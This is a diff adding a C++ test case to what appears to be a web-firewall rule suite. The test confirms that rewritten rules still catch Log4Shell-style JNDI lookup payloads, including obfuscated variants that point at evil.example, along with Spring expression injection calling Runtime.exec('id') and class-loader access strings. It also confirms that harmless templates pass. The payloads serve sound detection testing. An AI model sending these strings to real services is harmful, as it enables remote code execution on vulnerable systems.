@@ -110,3 +110,48 @@ TEST_CASE("8506 string-built calls and 3006 empty expansions: every form still c
     CHECK(!Has(Matching(v), 3006));
   }
 }
+
+// Lookup rules rewritten for linear cost on bodies full of `${` (bench_linearity, "JNDI-like lookups" and
+// "unresolved lookups"): what they caught before is still caught. 6501 now compresses whitespace first, so a
+// run of spaces or tabs inside `${ jndi :` is one space for its ` ?`; 6502 no longer allows spaces inside
+// `}ndi:` (a lookup split there does not resolve to `jndi`) nor schemes like `rmis`; 8504 allows up to 64
+// spaces around `T(`, 6003 up to 64 after `${`.
+TEST_CASE("lookup and expression rules rewritten for cost: payload forms still caught") {
+  const std::vector<std::pair<uint32_t, std::string>> cases = {
+      {6501, "${jndi:ldap://evil.example/a}"},
+      {6501, "${ jndi :ldap://evil.example/a}"},
+      {6501, "${\t\tjndi:x}"},
+      {6501, "${::-j}"},
+      {6501, "${${lower:j}ndi:x}"},
+      {6501, "${  ${  lower:j}"},
+      {6501, "${base64:JHtqbmRp}"},
+      {6501, "${x:-j}${y:-n}"},
+      {6501, "${env:NaN:-j}ndi${env:NaN:-:}"},
+      {6501, "${date:'j'}${date:'n'}"},
+      {6502, "${${::-j}${::-n}di:ldap://evil.example/a}"},
+      {6502, "${jndi:rmi://evil.example/a}"},
+      {6502, "${jndi:dns://evil.example}"},
+      {6502, "${jndi:https://evil.example}"},
+      {6502, "${x}ndi:"},
+      {6502, "${upper:j}${upper:n}di:"},
+      {6502, "${x}i:"},
+      {8504, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
+      {8504, "${T (java.lang.Runtime)}"},
+      {8504, "${x T(  java.lang.Runtime)}"},
+      {8504, "${''.getClass().forName('x')}"},
+      {6003, "${class.module.classLoader}"},
+      {6003, "${  class.classLoader}"},
+      {6003, "$class.inspect('x')"},
+  };
+  for (const auto& [id, v] : cases) {
+    INFO(id << " " << v);
+    CHECK(Has(Matching(v), id));
+  }
+  for (const char* v : {"price: ${amount}", "${HOME}/bin", "see ${ref} in", "${a}-${b}"}) {  // plain templates
+    INFO(v);
+    const auto ids = Matching(v);
+    CHECK(!Has(ids, 6501));
+    CHECK(!Has(ids, 6502));
+    CHECK(!Has(ids, 8504));
+  }
+}
